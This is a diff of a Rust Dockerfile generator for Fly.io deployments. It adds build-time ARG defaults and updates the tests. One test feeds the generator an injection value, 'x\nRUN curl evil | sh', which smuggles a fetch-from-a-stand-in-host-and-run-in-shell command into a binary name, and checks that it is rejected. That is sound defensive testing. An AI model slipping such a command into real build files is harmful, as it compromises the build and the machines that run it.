@@ -15,16 +15,32 @@ pub struct DockerfileError {
     pub name: String,
 }
 
-/// The Dockerfile for `package`'s binary `bin`, built from the workspace root.
+/// The Dockerfile for `package`'s binary `bin`, built from the workspace root, with the
+/// build-time environment `build_env` (checked by [`super::build_env::check`]) declared as
+/// `ARG`s with defaults in the build stages (`fly deploy --build-arg NAME=VALUE` overrides
+/// one).
 ///
 /// Both names go into shell commands and a comment, so they must be plain cargo names
 /// (cargo itself accepts a `[[bin]]` name with a line break, which would add instructions).
-pub fn dockerfile(package: &str, bin: &str) -> Result<String, DockerfileError> {
+pub fn dockerfile(
+    package: &str,
+    bin: &str,
+    build_env: &std::collections::BTreeMap<String, String>,
+) -> Result<String, DockerfileError> {
     for (what, name) in [("package", package), ("binary", bin)] {
         if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') {
             return Err(DockerfileError { what, name: crate::fly::config::comment_text(name) });
         }
     }
+    let args = if build_env.is_empty() {
+        String::new()
+    } else {
+        let lines: Vec<String> = build_env.iter().map(|(k, v)| super::build_env::dockerfile_arg(k, v)).collect();
+        format!(
+            "# Build-time environment (build-env): defaults; `fly deploy --build-arg NAME=VALUE` overrides one.\n{}\n",
+            lines.join("\n")
+        )
+    };
     Ok(format!(
         r#"# syntax=docker/dockerfile:1
 # Written by `cargo score-fly build --builder dockerfile` for {package} (binary {bin}).
@@ -38,7 +54,7 @@ COPY . .
 RUN cargo chef prepare --recipe-path recipe.json
 
 FROM chef AS builder
-COPY --from=planner /app/recipe.json recipe.json
+{args}COPY --from=planner /app/recipe.json recipe.json
 # Dependencies only: this layer is reused until Cargo.toml/Cargo.lock change.
 RUN cargo chef cook --release --recipe-path recipe.json
 COPY . .
@@ -62,7 +78,8 @@ pub const DOCKERIGNORE: &str = "# Written by cargo score-fly build --builder doc
 mod tests {
     #[test]
     fn names_the_package_and_binary() {
-        let d = super::dockerfile("todo", "todo-server").unwrap();
+        let d = super::dockerfile("todo", "todo-server", &std::collections::BTreeMap::new()).unwrap();
+        assert!(!d.contains("ARG"));
         assert!(d.contains("cargo build --release --locked -p todo --bin todo-server"));
         assert!(d.contains("ENTRYPOINT [\"/app/todo-server\"]"));
         assert!(d.contains("cargo chef cook"));
@@ -70,11 +87,20 @@ mod tests {
 
     #[test]
     fn names_that_would_add_instructions_are_refused() {
-        let e = super::dockerfile("todo", "x\nRUN curl evil | sh").unwrap_err();
+        let none = std::collections::BTreeMap::new();
+        let e = super::dockerfile("todo", "x\nRUN curl evil | sh", &none).unwrap_err();
         assert_eq!(e.what, "binary");
         assert!(e.to_string().contains("binary `x\\nRUN curl evil | sh`"), "{e}");
-        assert!(super::dockerfile("to do", "todo").is_err());
-        assert!(super::dockerfile("todo", "").is_err());
-        assert!(super::dockerfile("my_pkg-2", "Srv_1-x").is_ok());
+        assert!(super::dockerfile("to do", "todo", &none).is_err());
+        assert!(super::dockerfile("todo", "", &none).is_err());
+        assert!(super::dockerfile("my_pkg-2", "Srv_1-x", &none).is_ok());
+    }
+
+    #[test]
+    fn build_env_is_declared_before_the_dependencies_are_cooked() {
+        let env = std::collections::BTreeMap::from([("SQLX_OFFLINE".to_owned(), "true".to_owned())]);
+        let d = super::dockerfile("api", "api", &env).unwrap();
+        let arg = d.find("ARG SQLX_OFFLINE=\"true\"").expect("declared");
+        assert!(d.find("FROM chef AS builder").unwrap() < arg && arg < d.find("cargo chef cook").unwrap(), "{d}");
     }
 }
